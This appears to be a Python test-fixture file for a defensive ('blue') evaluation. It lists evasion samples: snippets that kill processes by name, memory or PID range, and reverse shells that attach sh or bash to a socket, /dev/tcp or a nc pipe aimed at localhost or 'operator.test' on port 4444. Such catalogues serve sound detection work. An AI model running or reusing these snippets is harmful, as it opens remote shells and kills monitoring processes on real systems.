"""Processes ended, and shells handed to a connection."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

ended = technique("python", "process ended")
operated = technique("python", "shell on a connection")

EVASIONS = (
    ended(
        "os-kill-by-comm",
        Harm.KILLED,
        r"""
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        name = open(f"/proc/{pid}/comm").read().strip()
    except OSError:
        continue
    if name.startswith("canary"):
        os.kill(int(pid), 15)
""",
    ),
    ended(
        "os-kill-by-ps",
        Harm.KILLED,
        r"""
import os
import signal
import subprocess

for line in subprocess.check_output(["ps", "-eo", "pid,comm"], text=True).splitlines()[1:]:
    pid, name = line.split(None, 1)
    if "editor" in name:
        os.kill(int(pid), signal.SIGKILL)
""",
    ),
    ended(
        "psutil",
        Harm.KILLED,
        r"""
import psutil

for process in psutil.process_iter(["name"]):
    if process.info["name"] == "mira-editor":
        process.terminate()
""",
        "python:psutil",
    ),
    ended(
        "psutil-by-memory",
        Harm.KILLED,
        r"""
import os

import psutil

others = [p for p in psutil.process_iter() if p.pid not in (1, os.getpid(), os.getppid())]
max(others, key=lambda p: p.memory_info().rss).kill()
""",
        "python:psutil",
    ),
    ended(
        "pidfd",
        Harm.KILLED,
        r"""
import os
import signal
import subprocess

fd = os.pidfd_open(int(subprocess.getoutput("pgrep -x canary-db")))
signal.pidfd_send_signal(fd, signal.SIGTERM)
""",
    ),
    ended(
        "killpg",
        Harm.KILLED,
        r"""
import os
import subprocess

pid = int(subprocess.getoutput("pidof canary-db || pgrep canary-db").split()[0])
os.kill(pid, 9) if os.getpgid(pid) == os.getpgrp() else os.killpg(os.getpgid(pid), 9)
""",
    ),
    ended(
        "all-others",
        Harm.KILLED,
        r"""
import contextlib
import os

for pid in range(2, 400):
    if pid not in (os.getpid(), os.getppid()):
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
""",
    ),
    ended(
        "minus-one",
        Harm.KILLED,
        r"""
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(-1, signal.SIGTERM)
""",
    ),
    ended(
        "signal-by-name",
        Harm.KILLED,
        r"""
import os
import signal
import subprocess

number = getattr(signal, "SIG" + "KILL")
list(map(lambda pid: os.kill(int(pid), number), subprocess.getoutput("pgrep canary").split()))
""",
    ),
    operated(
        "dup2",
        Harm.SHELL,
        r"""
import os
import socket
import subprocess

s = socket.socket()
s.connect(("127.0.0.1", 4444))
for fd in range(3):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh"])
""",
    ),
    operated(
        "dup2-map",
        Harm.SHELL,
        r"""
import os
import socket

line = socket.create_connection(("operator.test", 4444))
[*map(lambda n: os.dup2(line.fileno(), n), (0, 1, 2))]
os.execlp("bash", "bash")
""",
    ),
    operated(
        "popen-streams",
        Harm.SHELL,
        r"""
import socket
import subprocess

pipe = socket.create_connection(("localhost", 4444))
subprocess.Popen("sh", stdin=pipe, stdout=pipe, stderr=subprocess.STDOUT).wait()
""",
    ),
    operated(
        "line-by-line",
        Harm.SHELL,
        r"""
import socket
import subprocess

line = socket.create_connection(("127.0.0.1", 4444))
for order in line.makefile():
    if order.strip() == "exit":
        break
    line.sendall(subprocess.getoutput(order).encode())
line.close()
""",
    ),
    operated(
        "popen-per-order",
        Harm.SHELL,
        r"""
import os
import socket

link = socket.socket()
link.connect(("operator.test", 4444))
while (text := link.recv(1024).decode()) and text:
    link.send(os.popen(text).read().encode())
    if "exit" in text:
        break
""",
    ),
    operated(
        "asyncio-streams",
        Harm.SHELL,
        r"""
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("127.0.0.1", 4444)
    order = await reader.readline()
    child = await asyncio.create_subprocess_shell(order.decode(), stdout=asyncio.subprocess.PIPE)
    writer.write((await child.communicate())[0])
    await writer.drain()
    writer.close()


asyncio.run(main())
""",
    ),
    operated(
        "dev-tcp",
        Harm.SHELL,
        r"""
import subprocess

subprocess.run(["bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/4444; sh <&5 >&5 2>&5"])
""",
    ),
    operated(
        "fifo-and-nc",
        Harm.SHELL,
        r"""
import os

os.mkfifo("/tmp/p")
os.system("sh </tmp/p 2>&1 | nc operator.test 4444 >/tmp/p")
""",
    ),
    operated(
        "telnetlib-like",
        Harm.SHELL,
        r"""
import warnings

warnings.simplefilter("ignore")
import subprocess
import telnetlib

session = telnetlib.Telnet("127.0.0.1", 4444)
order = session.read_until(b"\n")
session.write(subprocess.check_output(order, shell=True))
session.close()
""",
    ),
    operated(
        "threads-both-ways",
        Harm.SHELL,
        r"""
import socket
import subprocess
import threading

line = socket.create_connection(("127.0.0.1", 4444))
child = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)


def forward():
    while data := line.recv(100):
        child.stdin.write(data)
        child.stdin.flush()


threading.Thread(target=forward, daemon=True).start()
while data := child.stdout.read1(100):
    line.sendall(data)
""",
    ),
    operated(
        "selectors",
        Harm.SHELL,
        r"""
import os
import selectors
import socket

chooser = selectors.DefaultSelector()
line = socket.create_connection(("127.0.0.1", 4444))
chooser.register(line, selectors.EVENT_READ, data=os.popen)
for key, _ in chooser.select(5):
    key.fileobj.sendall(key.data(key.fileobj.recv(999).decode()).read().encode())
""",
    ),
    operated(
        "interactive-console",
        Harm.RAN,
        r"""
import code
import socket

line = socket.create_connection(("127.0.0.1", 9003))
orders = line.makefile("r")
console = code.InteractiveConsole()
console.push("import os")
console.push(f"os.system({orders.readline()!r})")
""",
    ),
)
